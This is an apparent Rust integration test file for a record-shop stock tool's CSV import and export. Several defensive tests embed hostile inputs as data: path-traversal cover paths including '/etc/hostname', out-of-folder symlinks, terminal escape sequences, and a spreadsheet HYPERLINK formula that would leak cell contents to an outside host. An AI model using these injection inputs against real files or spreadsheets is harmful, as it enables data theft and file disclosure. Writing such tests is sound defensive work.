//! Tables come into the stock and out of it: every good row once, every bad one told.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};

use serde_json::Value;
use sleevesight::heat::{ThermalZone, Thermometer};
use sleevesight::model::{Key, SignedFile};
use sleevesight::network::Bundle;
use sleevesight::stock::{Entry, EntryCover, Stock, rows};
use tempfile::TempDir;

use crate::common::{root, sleevesight};

/// A stock of its own, and what a command on it says.
struct Shop {
    folder: TempDir,
}

impl Shop {
    fn new() -> Self {
        Self { folder: tempfile::tempdir().expect("a temporary folder") }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Runs `stock`; its status, and what it printed.
    fn stock(&self, args: &[&str]) -> (i32, String, String) {
        let output = sleevesight()
            .args(["stock", args[0], "--config", "packaging/config.toml", "--bundle", "models/default"])
            .arg("--stock")
            .arg(self.path("stock.db"))
            .args(&args[1..])
            .output()
            .expect("the program runs");
        let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("text");
        (output.status.code().expect("a status"), text(output.stdout), text(output.stderr))
    }

    fn import(&self, table: &str, covers: &Path) -> (i32, String, String) {
        let path = self.path("table.csv");
        fs::write(&path, table).expect("the temporary folder takes files");
        self.stock(&["import", &path.display().to_string(), "--covers", &covers.display().to_string()])
    }

    /// Imports a table without covers.
    fn import_bare(&self, table: &str) -> (i32, String, String) {
        let path = self.path("table.csv");
        fs::write(&path, table).expect("the temporary folder takes files");
        self.stock(&["import", &path.display().to_string()])
    }

    /// The stock's file, opened.
    fn open(&self) -> Stock {
        let bundle = Bundle::open(&root().join("models/default")).expect("the shipped bundle");
        Stock::open(&self.path("stock.db"), &bundle).expect("the stock")
    }

    /// The records as `list --json` prints them.
    fn list(&self) -> Vec<Value> {
        let (_, out, _) = self.stock(&["list", "--json"]);
        out.lines().map(|line| serde_json::from_str(line).expect("an object")).collect()
    }
}

fn flat() -> PathBuf {
    root().join("tests/sleeves/flat")
}

const TABLE: &str = "\
title,cover,genre,artist,year,price,shelf,note
Kind of Blue,jazz-trumpet.jpg,Jazz,Miles Davis,1959,20 €,B3,\"worn, but plays\"
Peaks,metal-mountains.jpg,metal,,,,,
";

#[test]
fn a_table_that_is_imported_twice_is_there_once() {
    let shop = Shop::new();
    let (status, out, err) = shop.import(TABLE, &flat());
    assert_eq!(
        (status, out.as_str()),
        (0, "2 added, 0 changed, 0 as before, 0 left out; 2 in stock\n"),
        "{err}"
    );
    let before = shop.list();
    assert_eq!(before[0]["artist"], "Miles Davis");
    assert_eq!(before[0]["note"], "worn, but plays");
    assert_eq!(before[0]["year"], 1959);
    assert_eq!(before[1]["year"], Value::Null);
    let (_, out, _) = shop.import(TABLE, &flat());
    assert_eq!(out, "0 added, 0 changed, 2 as before, 0 left out; 2 in stock\n");
    assert_eq!(shop.list(), before);
}

#[test]
fn a_table_that_has_changed_changes_the_records_but_no_correction() {
    let shop = Shop::new();
    shop.import(TABLE, &flat());
    shop.stock(&["correct", "2", "Doom"]);
    let (_, out, _) = shop.import(&TABLE.replace("20 €", "18 €").replace("B3", ""), &flat());
    assert_eq!(out, "0 added, 1 changed, 1 as before, 0 left out; 2 in stock\n");
    let list = shop.list();
    assert_eq!(list[0]["price"], "18 €");
    assert_eq!(list[0]["shelf"], "B3", "what the table does not tell stays");
    assert_eq!(list[1]["genre"], "Doom", "the shop knows better than its table");
}

#[test]
fn copies_are_as_many_records_as_there_are_rows() {
    let shop = Shop::new();
    let table = "title,cover,price\nA,pop-pastel.jpg,5\nA,pop-pastel.jpg,7\n";
    for expected in ["2 added, 0 changed, 0 as", "0 added, 0 changed, 2 as"] {
        let (_, out, _) = shop.import(table, &flat());
        assert!(out.starts_with(expected), "{out}");
    }
    let prices: Vec<String> = shop.list().iter().map(|record| record["price"].to_string()).collect();
    assert_eq!(prices, ["\"5\"", "\"7\""]);
}

#[test]
fn bad_rows_are_told_by_their_lines_and_left_out() {
    let shop = Shop::new();
    let covers = shop.path("covers");
    fs::create_dir(&covers).expect("a folder");
    fs::copy(flat().join("pop-pastel.jpg"), covers.join("good.jpg")).expect("copied");
    fs::write(covers.join("letter.jpg"), "no picture").expect("written");
    let table = "title,cover,year\n\
        Good,good.jpg,1999\n\
        ,good.jpg,\n\
        \n\
        No cover,,\n\
        \"Two\nlines\",absent.jpg,\n\
        Letter,letter.jpg,\n\
        Escapes,../table.csv,\n\
        Absolute,/etc/hostname,\n\
        Year,good.jpg,in spring\n\
        Short,good.jpg\n\
        Also good,./good.jpg,2001-05-04\n";
    let (status, out, err) = shop.import(table, &covers);
    assert_eq!(status, 1);
    assert_eq!(out, "4 added, 0 changed, 0 as before, 6 left out; 4 in stock, 1 cover is missing\n");
    let told: Vec<&str> = err.lines().collect();
    let wanted = [
        (3, "no title"),
        (6, "absent.jpg; it is kept without its cover"),
        (8, "not a JPEG"),
        (9, "not below"),
        (10, "not below"),
        (11, "\"in spring\" is no year"),
        (12, "2 fields"),
    ];
    assert_eq!(told.len(), wanted.len(), "{err}");
    for (sentence, (line, reason)) in told.iter().zip(wanted) {
        assert!(sentence.contains(&format!("line {line}: ")), "{sentence}");
        assert!(sentence.contains(reason), "{sentence}");
    }
}

#[test]
fn a_table_alone_is_a_stock_and_gets_its_covers_later() {
    let shop = Shop::new();
    let bare = "title,artist,year,cover\nPeaks,The Ranges,1981,metal-mountains.jpg\nPeaks,The Ranges,1981,\nAlone,,,\n";
    for expected in ["3 added, 0 changed, 0 as before, 0 left out; 3 in stock\n", "0 added, 0 changed, 3 as"]
    {
        let (status, out, err) = shop.import_bare(bare);
        assert!(status == 0 && err.is_empty() && out.starts_with(expected), "{out}{err}");
    }
    let before = shop.list();
    assert_eq!(before.len(), 3);
    assert!(shop.open().with_covers().expect("read").is_empty(), "no cover was asked for");
    assert_eq!(shop.stock(&["correct", "2", "Doom"]).0, 0);

    let out = shop.path("bare");
    assert_eq!(shop.stock(&["export", &out.display().to_string()]).0, 0);
    let table = fs::read_to_string(out.join("stock.csv")).expect("a table");
    assert!(table.contains("The Ranges,Peaks,1981,Doom,,,,\n"), "{table}");
    assert!(!out.join("covers").exists());
    let second = Shop::new();
    assert_eq!(second.import_bare(&table).1, "3 added, 0 changed, 0 as before, 0 left out; 3 in stock\n");
    assert_eq!(second.list(), shop.list());

    let (_, said, err) = shop.import(bare, &flat());
    assert_eq!(said, "0 added, 1 changed, 2 as before, 0 left out; 3 in stock\n", "{err}");
    let covers = |id| shop.open().covers(id).expect("a record").len();
    assert_eq!([covers(1), covers(2), covers(3)], [1, 0, 0], "one of two copies has got its cover");
    for covers in [Some(flat()), None] {
        let (_, said, _) = match covers {
            Some(covers) => shop.import(bare, &covers),
            None => shop.import_bare(bare),
        };
        assert_eq!(said, "0 added, 0 changed, 3 as before, 0 left out; 3 in stock\n");
    }
    assert_eq!(shop.stock(&["renew"]).0, 0, "there is nothing to read of the others");
    let (status, found, err) =
        shop.stock(&["find", "--flat", &flat().join("metal-mountains.jpg").display().to_string()]);
    assert_eq!(status, 0, "{err}");
    assert!(found.starts_with("#1 The Ranges: Peaks"), "{found}");

    let out = shop.path("mixed");
    assert_eq!(shop.stock(&["export", &out.display().to_string()]).0, 0);
    let table = fs::read_to_string(out.join("stock.csv")).expect("a table");
    let third = Shop::new();
    assert_eq!(third.import(&table, &out).1, "3 added, 0 changed, 0 as before, 0 left out; 3 in stock\n");
    assert_eq!(third.open().with_covers().expect("read").len(), 1);
}

#[test]
fn a_record_can_be_added_without_a_picture() {
    let shop = Shop::new();
    let (status, said, err) = shop.stock(&["add", "--title", "Peaks", "--artist", "The Ranges"]);
    assert_eq!((status, said.as_str()), (0, "#1 The Ranges: Peaks\n"), "{err}");
    let stock = shop.open();
    assert_eq!(stock.thumbnail(1).expect("a record"), None);
    assert!(stock.thumbnail(2).is_err());
    assert_eq!(stock.covers(1).expect("a record").len(), 0);
}

#[test]
fn a_table_without_what_is_owed_is_refused() {
    for (table, reason) in [("", "it is empty"), ("artist,cover\nA,a.jpg\n", "no column `title`")] {
        let refusal = rows(table.as_bytes(), Some(Path::new("covers"))).expect_err("no table");
        assert!(refusal.to_string().contains(reason), "{refusal}");
    }
}

fn entries(table: &str, covers: &Path) -> Vec<Entry> {
    let rows = rows(table.as_bytes(), Some(covers)).expect("a table");
    rows.into_iter().map(|row| row.expect("a good row")).collect()
}

#[test]
fn columns_are_known_in_any_order_case_and_separator() {
    let tables = [
        "Title,Cover,YEAR,extra\nA,a.jpg,1999,x\n",
        "\u{feff}year;title;cover\r\n1999;A;a.jpg\r\n",
        "cover\ttitle\tyear\na.jpg\tA\t1999\n",
    ];
    for table in tables {
        let entry = &entries(table, Path::new("covers"))[0];
        assert_eq!((entry.details.title.as_str(), entry.details.year), ("A", Some(1999)));
        assert_eq!(entry.cover, EntryCover::File("covers/a.jpg".into()));
    }
}

#[test]
fn a_collection_as_discogs_exports_it_is_read() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    fs::copy(flat().join("jazz-trumpet.jpg"), folder.path().join("2825456.jpg")).expect("copied");
    let table = "Catalog#,Artist,Title,Label,Format,Rating,Released,release_id,CollectionFolder,Date Added,\
        Collection Media Condition,Collection Sleeve Condition,Collection Notes\n\
        CL 1355,Miles Davis,Kind Of Blue,Columbia,\"LP, Album\",5,1959-08-17,2825456,Jazz wall,2024-01-02 11:12:13,\
        Very Good Plus (VG+),Good (G),signed\n";
    let entry = &entries(table, folder.path())[0];
    assert_eq!(entry.details.line(""), "Miles Davis: Kind Of Blue · Jazz wall");
    assert_eq!((entry.details.year, entry.details.note.as_str()), (Some(1959), "signed"));
    assert_eq!(entry.cover, EntryCover::File(folder.path().join("2825456.jpg")));
    let bare = rows(table.as_bytes(), None).expect("a table").remove(0).expect("a good row");
    assert_eq!((bare.details, bare.cover), (entry.details.clone(), EntryCover::None));

    let unknown = table.replace("1959-08-17,2825456", "0,77");
    match &entries(&unknown, folder.path())[0].cover {
        EntryCover::Missing(reason) => assert!(reason.contains("there is no 77.jpg"), "{reason}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn what_is_exported_is_imported_as_it_was() {
    let shop = Shop::new();
    shop.import(TABLE, &flat());
    let picture = flat().join("ambient-dunes.jpg").display().to_string();
    shop.stock(&["add", &picture, "--flat", "--title", "../Дюны/ \"1\"", "--note", "=1+1, \"quoted\""]);
    shop.stock(&["teach", "1", &flat().join("pop-pastel.jpg").display().to_string(), "--flat"]);
    shop.stock(&["correct", "1", "Krautrock & Ko"]);

    let out = shop.path("out");
    let (status, _, err) = shop.stock(&["export", &out.display().to_string()]);
    assert_eq!(status, 0, "{err}");
    for file in [
        "covers/krautrock-ko/1-kind-of-blue.jpg",
        "covers/krautrock-ko/1-kind-of-blue-2.jpg",
        "covers/metal/2-peaks.jpg",
        "without-genre/3-дюны-1.jpg",
    ] {
        assert!(out.join(file).is_file(), "{file}");
    }
    let (status, _, err) = shop.stock(&["export", &out.display().to_string()]);
    assert_eq!(status, 1);
    assert!(err.contains("is there already"), "{err}");

    let table = fs::read_to_string(out.join("stock.csv")).expect("a table");
    let (_, said, _) = shop.import(&table, &out);
    assert_eq!(said, "0 added, 0 changed, 3 as before, 0 left out; 3 in stock\n", "nothing is new to it");
    let second = Shop::new();
    let (_, said, err) = second.import(&table, &out);
    assert_eq!(said, "3 added, 0 changed, 0 as before, 0 left out; 3 in stock\n", "{err}");
    assert_eq!(second.list(), shop.list());
    let again = second.path("out");
    second.stock(&["export", &again.display().to_string()]);
    assert_eq!(fs::read_to_string(again.join("stock.csv")).expect("a table"), table);
    for file in files_below(&again) {
        let before = out.join(file.strip_prefix(&again).expect("below"));
        assert_eq!(fs::read(&file).expect("a file"), fs::read(before).expect("a file"), "{}", file.display());
    }
}

fn files_below(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).expect("a folder").map(|entry| entry.expect("an entry").path());
    entries.flat_map(|path| if path.is_dir() { files_below(&path) } else { vec![path] }).collect()
}

#[test]
fn a_command_says_what_it_needs() {
    let output = sleevesight()
        .args(["stock", "list", "--config", "packaging/config.toml", "--bundle", "models/default"])
        .output()
        .expect("the program runs");
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("name its file with --stock FILE"));
    let shop = Shop::new();
    let (status, _, err) = shop.stock(&["list"]);
    assert_eq!(status, 5);
    assert!(err.contains("there is no stock at"), "{err}");
    shop.import(TABLE, &flat());
    let (status, _, err) = shop.stock(&["remove", "77"]);
    assert_eq!(status, 5);
    assert!(err.contains("there is no record 77"), "{err}");
    let (_, out, _) = shop.stock(&["list", "davis"]);
    assert_eq!(out, "#1 Miles Davis: Kind of Blue · Jazz · B3\n");
    shop.stock(&["remove", "1"]);
    assert_eq!(shop.list().len(), 1);
}

#[test]
fn a_row_with_a_text_that_is_too_long_is_left_out_and_counted() {
    let shop = Shop::new();
    let table = format!("title,note\nA,short\n{},short\nB,{}\n", "T".repeat(501), "n".repeat(4001));
    let (status, out, err) = shop.import_bare(&table);
    assert_eq!((status, out.as_str()), (1, "1 added, 0 changed, 0 as before, 2 left out; 1 in stock\n"));
    assert!(err.contains("line 3: the title has 501 letters, and 500 are the most"), "{err}");
    assert!(err.contains("line 4: the note has 4001 letters, and 4000 are the most"), "{err}");
}

#[test]
fn a_link_that_leads_out_of_the_covers_folder_is_not_followed() {
    let shop = Shop::new();
    let covers = shop.path("covers");
    fs::create_dir(&covers).expect("a folder");
    let outside = flat().join("jazz-trumpet.jpg");
    symlink(&outside, covers.join("out.jpg")).expect("a link");
    symlink(flat(), covers.join("below")).expect("a link");
    fs::copy(&outside, covers.join("own.jpg")).expect("a copy");
    symlink("own.jpg", covers.join("in.jpg")).expect("a link");
    let table = "title,cover\nA,out.jpg\nB,below/jazz-trumpet.jpg\nC,in.jpg\n";
    let (status, out, err) = shop.import(table, &covers);
    assert_eq!((status, out.as_str()), (1, "1 added, 0 changed, 0 as before, 2 left out; 1 in stock\n"));
    assert_eq!(err.matches("is a link that leads out of the covers' folder").count(), 2, "{err}");
}

#[test]
fn nothing_of_a_table_does_anything_to_the_terminal() {
    let shop = Shop::new();
    let table = "title,year,cover\nA,\"\u{1b}]0;x\u{7}1999x\",a.jpg\nB,1999,\"../\u{1b}[31mx\"\nC,1999,\"no\u{1b}[5m\n<3>file\"\n";
    let (_, out, err) = shop.import(table, &flat());
    let (_, added, _) = shop.stock(&["add", "--title", "T\u{1b}]0;x\u{7}", "--genre", "G\u{9b}2J"]);
    let (_, _, refused) = shop.import("\u{1b}[31mheader\u{1b}]0;x\u{7},b\n", &flat());
    for text in [out, err, added, refused] {
        assert!(!text.is_empty());
        assert!(!text.chars().any(|letter| letter.is_control() && letter != '\n'), "{text:?}");
        assert!(!text.lines().any(|line| line.starts_with("<3>")), "{text:?}");
    }
    let path = shop.path("\u{1b}[31m.jpg");
    let asked = sleevesight().arg("classify").arg(path).assert().code(1);
    let text = String::from_utf8(asked.get_output().stderr.clone()).expect("text");
    assert!(text.contains("there is no such file") && !text.contains('\u{1b}'), "{text:?}");
}

#[test]
fn a_pipe_that_nobody_writes_into_is_not_waited_for() {
    let shop = Shop::new();
    let pipe = shop.path("pipe");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().expect("mkfifo").success());
    let (status, _, err) = shop.stock(&["import", &pipe.display().to_string()]);
    assert!(status == 1 && err.contains("it is no file but a pipe"), "{err}");
    assert_eq!(ThermalZone::new(&pipe).celsius(), None);
    let key = "RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3";
    let key = Key::parse(key).expect("the key of minisign's manual");
    fs::write(shop.path("pipe.minisig"), "none").expect("the folder takes files");
    assert!(SignedFile::open(&pipe, std::slice::from_ref(&key)).is_err());
    fs::remove_file(shop.path("pipe.minisig")).expect("it is there");
    fs::rename(&pipe, shop.path("model.minisig")).expect("it is there");
    assert!(SignedFile::open(&shop.path("model"), &[key]).is_err());
}

#[test]
fn no_text_of_an_exported_table_is_a_formula() {
    let shop = Shop::new();
    let title = "=HYPERLINK(\"http://a.b/?\"&A1)";
    shop.stock(&["add", "--title", title, "--artist", "@SUM(1)", "--note=-1+1", "--genre", "'+1"]);
    let out = shop.path("out");
    let (status, _, err) = shop.stock(&["export", &out.display().to_string()]);
    assert_eq!(status, 0, "{err}");
    let table = fs::read_to_string(out.join("stock.csv")).expect("a table");
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    for field in &reader.records().next().expect("a row").expect("fields") {
        assert!(!field.starts_with(['=', '+', '-', '@']), "{table}");
    }
    let before = shop.list();
    let (_, again, _) = shop.stock(&["import", &out.join("stock.csv").display().to_string()]);
    assert_eq!(again, "0 added, 0 changed, 1 as before, 0 left out; 1 in stock\n");
    assert_eq!(shop.list(), before);
}
